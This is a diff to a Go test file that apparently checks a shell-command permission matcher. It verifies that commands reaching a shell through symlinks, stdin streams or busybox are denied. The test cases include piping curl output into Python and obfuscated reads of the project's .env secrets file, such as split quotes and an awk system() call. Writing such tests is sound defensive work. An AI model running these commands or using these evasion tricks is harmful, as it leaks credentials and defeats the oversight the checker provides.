@@ -67,13 +67,15 @@ func TestWritesAndStreamsVariants(t *testing.T) {
 	})
 	// a project's own link to a stream is a stream (the disk shows it)
 	m := DefaultRules().Matcher(Env{Cwd: tCwd, Home: tHome, FS: linkFS(map[string]string{tCwd + "/.env": "K=1"},
-		map[string]string{tCwd + "/in.py": "/dev/stdin", tCwd + "/run.sh": "/proc/self/fd/0", tCwd + "/tool": "/bin/sh"})})
+		map[string]string{tCwd + "/in.py": "/dev/stdin", tCwd + "/run.sh": "/proc/self/fd/0", tCwd + "/tool": "/bin/sh", "/bin/sh": "/bin/busybox", "/usr/bin/awk": "/bin/busybox"})})
 	for _, c := range []shellCase{
 		{"curl -s https://example.com/x | python3 in.py", KindUnverifiable},
 		{"echo 'cat .env' | sh run.sh", KindDeny},
 		{"echo 'ls' | sh run.sh", ""},
 		{"./tool -c 'cat .e\"\"nv'", KindDeny}, // a project's ./tool -> /bin/sh
 		{"./tool -c 'ls'", ""},
+		{"/bin/sh -c 'cat .e\"\"nv'", KindDeny}, // /bin/sh -> busybox: still sh
+		{"/usr/bin/awk 'BEGIN{system(\"cat .e*\")}'", KindDeny},
 	} {
 		if got, why := kindOf(m, c.cmd); got != c.want {
 			t.Errorf("%q: got %q, want %q (%s)", c.cmd, got, c.want, why)
